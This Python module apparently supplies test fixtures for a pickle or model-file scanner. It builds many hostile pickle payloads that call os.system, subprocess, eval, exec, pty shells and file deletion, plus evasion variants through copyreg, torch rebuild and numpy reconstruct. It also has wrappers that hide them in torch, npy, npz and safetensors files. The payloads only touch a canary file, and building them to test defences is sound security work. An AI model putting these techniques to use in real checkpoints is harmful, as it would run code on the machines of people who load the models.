"""Pickles that run something when Python's own reader opens them, and files to hide them in."""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from collections.abc import Callable

import numpy as np
import torch

CANARY = "canary"
_TOUCH = f"open('{CANARY}', 'w').close()"
_SHELL = f"touch {CANARY}"


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def blob(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def name(found: str) -> bytes:
    module, _, attribute = found.rpartition(":")
    return f"c{module}\n{attribute}\n".encode()


def call(function: str, *arguments: bytes) -> bytes:
    return name(function) + b"(" + b"".join(arguments) + b"tR"


def _number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


# function and arguments, called in the plainest way there is
_CALLS: dict[str, tuple[str, tuple[bytes, ...]]] = {
    found: (found, arguments)
    for found, arguments in (
        ("os:system", (text(_SHELL),)),
        ("posix:system", (text(_SHELL),)),
        ("nt:system", (text(_SHELL),)),
        ("os:popen", (text(_SHELL),)),
        ("os:execv", (text("/bin/touch"), b"]" + text("touch") + b"a" + text(CANARY) + b"a")),
        ("os:_exit", (_number(9),)),
        ("os:open", (text(CANARY), _number(65))),
        ("os:mkdir", (text(CANARY),)),
        ("os:remove", (text("precious"),)),
        ("shutil:rmtree", (text("precious"),)),
        ("subprocess:Popen", (text(_SHELL), b"J\xff\xff\xff\xff" + b"NNNNN" + b"\x89\x88")),
        ("subprocess:getoutput", (text(_SHELL),)),
        ("commands:getoutput", (text(_SHELL),)),
        ("pty:spawn", (text("/bin/sh"),)),
        ("builtins:eval", (text(_TOUCH),)),
        ("builtins:exec", (text(_TOUCH),)),
        ("__builtin__:eval", (text(_TOUCH),)),
        ("__builtin__:execfile", (text("precious"),)),
        ("__builtin__:apply", (name("os:system"), text(_SHELL) + b"\x85")),
        ("builtins:compile", (text(_TOUCH), text("f"), text("exec"))),
        ("builtins:open", (text(CANARY), text("w"))),
        ("builtins:getattr", (name("os:system"), text("__call__"))),
        ("builtins:__import__", (text("antigravity"),)),
        ("builtins:map", (name("os:system"), b"]" + text(_SHELL) + b"a")),
        ("builtins:setattr", (name("builtins:object"), text("a"), _number(1))),
        ("io:open", (text(CANARY), text("w"))),
        ("_io:FileIO", (text(CANARY), text("w"))),
        ("pathlib:Path.touch", (text(CANARY),)),
        ("importlib:import_module", (text("antigravity"),)),
        ("runpy:run_path", (text("precious"),)),
        ("runpy:_run_code", (text(_TOUCH), b"}")),
        ("code:interact", (text(""),)),
        ("timeit:timeit", (text(_TOUCH), text("pass"), name("timeit:default_timer"), _number(1))),
        ("cProfile:run", (text(_TOUCH),)),
        ("profile:run", (text(_TOUCH),)),
        ("pdb:run", (text(_TOUCH),)),
        ("trace:Trace", ()),
        ("doctest:debug_script", (text(_TOUCH),)),
        ("pydoc:pipepager", (text(""), text(_SHELL))),
        ("webbrowser:open", (text("http://localhost:1"),)),
        ("urllib.request:urlopen", (text("http://localhost:1"),)),
        ("socket:create_connection", (text("localhost") + _number(1) + b"\x86",)),
        ("ctypes:CDLL", (text("libc.so.6"),)),
        ("marshal:loads", (blob(b"N"),)),
        ("pickle:loads", (blob(pickle.dumps(1)),)),
        ("_pickle:loads", (blob(pickle.dumps(1)),)),
        ("types:FunctionType", (b"N", b"}")),
        ("types:CodeType", ()),
        ("functools:partial", (name("os:system"), text(_SHELL))),
        ("functools:reduce", (name("os:system"), b"]" + text(_SHELL) + b"a")),
        ("operator:methodcaller", (text("system"), text(_SHELL))),
        ("operator:attrgetter", (text("system"),)),
        ("logging.config:dictConfig", (b"}",)),
        ("multiprocessing.util:spawnv_passfds", (blob(b"/bin/sh"), b"]", b"]")),
        ("asyncio.unix_events:_UnixSubprocessTransport._start", ()),
        ("idlelib.pyshell:ModifiedInterpreter.runcommand", (b"N", text(_TOUCH))),
        ("lib2to3.pgen2.grammar:Grammar.loads", (b"N", blob(pickle.dumps(1)))),
        ("pip:main", (b"]" + text("install") + b"a",)),
        ("numpy:load", (text("precious"), b"N", b"\x88")),
        ("numpy.testing._private.utils:runstring", (text(_TOUCH), b"}")),
        ("numpy.f2py.crackfortran:myeval", (text(_TOUCH),)),
        ("torch:load", (text("precious"),)),
        ("torch.hub:load", (text("owner/repo"), text("model"))),
        ("torch.jit:load", (text("precious"),)),
        ("torch.serialization:load", (text("precious"),)),
        ("torch.utils.collect_env:run", (text(_SHELL),)),
        ("torch.utils.cpp_extension:load_inline", (text("a"), text(""))),
        ("torch._inductor.codecache:PyCodeCache.load", (text(_TOUCH),)),
        ("torch.fx.graph_module:_exec_with_source", (text(_TOUCH), b"}")),
        ("torch.distributed.rpc.internal:deserialize", (blob(b""), b"]")),
        ("dnnlib.util:call_func_by_name", (text("os.system"),)),
        ("model:main", (text(_SHELL),)),
    )
}


def _nested(inner: bytes) -> bytes:
    return call("torch.storage:_load_from_bytes", blob(legacy(inner)))


def _ways() -> dict[str, bytes]:
    """The same few calls by other instructions, and by way of what is allowed."""
    system, shell, evaluate = name("os:system"), text(_SHELL), text(_TOUCH)
    live = call("builtins:eval", evaluate)
    return {
        "stack global": b"\x8c\x02os\x8c\x06system\x93" + shell + b"\x85R",
        "stack global, made of parts": b"\x8c\x02osp0\n0g0\n\x8c\x06system\x93" + shell + b"\x85R",
        "dotted global": b"\x8c\x02os\x8c\x0bpath.os.sys\x93" + shell + b"\x85R",
        "dunder global": b"\x8c\x08builtins\x8c\x15object.__subclasses__\x93)R",
        "memo": system + b"q\x05" + b"0" + b"h\x05" + shell + b"\x85R",
        "inst": b"(" + shell + b"ios\nsystem\n",
        "obj": b"(" + system + shell + b"o",
        "newobj": name("subprocess:Popen") + shell + b"\x85\x81",
        "newobj without arguments": name("subprocess:Popen") + b")\x81",
        "newobj_ex": name("subprocess:Popen") + b")" + b"}" + text("args") + shell + b"s" + b"\x92",
        "class of a package, with arguments": name("torch.nn:Linear") + _number(3) + b"\x85\x81",
        "extension": b"\x82\x01",
        "persistent id": shell + b"Q",
        "persistent line": b"Pos.system\n",
        "out of band": b"\x97",
        "build on a name": name("torch:float32") + b"}" + text("a") + shell + b"sb",
        "build on a function": system + b"}" + text("__call__") + shell + b"sb",
        "build on a tuple": b")" + b"}" + text("a") + shell + b"sb",
        "build with setstate": name("a:B")
        + b")\x81}"
        + text("__setstate__")
        + system
        + b"sb"
        + shell
        + b"b",
        "call of a list": b"]" + shell + b"\x85R",
        "call of text": text("os.system") + shell + b"\x85R",
        "call of an object": name("a:B") + b")\x81" + shell + b"\x85R",
        "call of a made object's class": call("copyreg:_reconstructor", system, system, shell),
        "reconstructor": call("copyreg:_reconstructor", name("subprocess:Popen"), system, b"N"),
        "newobj function": call("copyreg:__newobj__", name("subprocess:Popen"), shell),
        "extension registry": call("copyreg:add_extension", text("os"), text("system"), b"K\x01"),
        "factory": call("collections:defaultdict", system) + shell + b"N" + b"s0" + live,
        "ordered dict of calls": call("collections:OrderedDict", b"](" + live + b"K\x01ea"),
        "dictionary value": b"}" + text("g_ema") + live + b"s",
        "dictionary key": b"}" + live + b"K\x01s",
        "list in a tuple": b"]" + live + b"a" + b"\x85",
        "thrown away": live + b"0" + b"}",
        "thrown away with a mark": b"(" + live + b"1" + b"}",
        "before the value": live + b"}" + b"\x86",
        "set": b"\x8f(" + live + b"\x90",
        "frozenset": b"(" + live + b"\x91",
        "tensor rebuilt by": call(
            "torch._tensor:_rebuild_from_type_v2",
            system,
            name("torch:Tensor"),
            shell + b"\x85",
            b"N",
        ),
        "parameter of": call("torch._utils:_rebuild_parameter", live, b"\x88", b"}"),
        "tensor of": call("torch._utils:_rebuild_tensor_v2", live, b"K\x00", b")", b")", b"\x89N"),
        "array class": call("numpy.core.multiarray:_reconstruct", live, b"K\x00\x85", blob(b"b")),
        "array state": call(
            "numpy.core.multiarray:_reconstruct", name("numpy:ndarray"), b"K\x00\x85", blob(b"b")
        )
        + b"("
        + live
        + b"tb",
        "persistence": call("torch_utils.persistence:_reconstruct_persistent_obj", live),
        "persistence import hook": call(
            "torch_utils.persistence:import_hook", name("builtins:exec")
        ),
        "storage in bytes": _nested(live),
        "twice nested": _nested(_nested(live)),
        "encode": call("_codecs:encode", shell, live),
        "path": call("pathlib:PosixPath", live),
        "device": call("torch:device", live),
        "size": call("torch:Size", live),
    }


def pickled(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def protocol_0(body: bytes) -> bytes:
    """Without a header, as Python 2 wrote; the instructions are what they are."""
    return body + b"."


def legacy(body: bytes) -> bytes:
    system = {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}
    head = (0x1950A86A20F9469CFC6C, 1001, system)
    return b"".join(pickle.dumps(part, 2) for part in head) + pickled(body) + pickle.dumps([], 2)


PAYLOADS: dict[str, bytes] = {
    **{label: call(found, *arguments) for label, (found, arguments) in _CALLS.items()},
    **_ways(),
}
LIVE = [label for label, body in PAYLOADS.items() if b"cbuiltins\neval\n" in body]


def torch_zip(body: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("archive/data.pkl", pickled(body))
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/version", "3\n")
    return out.getvalue()


def npy(body: bytes) -> bytes:
    out = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        out, {"descr": "|O", "fortran_order": False, "shape": (1,)}
    )
    return out.getvalue() + pickled(body)


def npz(body: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.npy", npy(body))
    return out.getvalue()


def safetensors(body: bytes) -> bytes:
    header = b'{"a":{"dtype":"O","shape":[1],"data_offsets":[0,%d]}}' % len(pickled(body))
    return struct.pack("<Q", len(header)) + header + pickled(body)


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
    "pickle": pickled,
    "pickle without a protocol": protocol_0,
    "torch legacy": legacy,
    "torch zip": torch_zip,
    "npy": npy,
    "npz": npz,
    "safetensors": safetensors,
}
SUFFIXES = (".pt", ".pth", ".pkl", ".bin", ".ckpt", ".npy", ".npz", ".safetensors", ".png", "")


def torch_bytes(tree: object, zipped: bool = True) -> bytes:
    out = io.BytesIO()
    torch.save(tree, out, _use_new_zipfile_serialization=zipped)
    return out.getvalue()
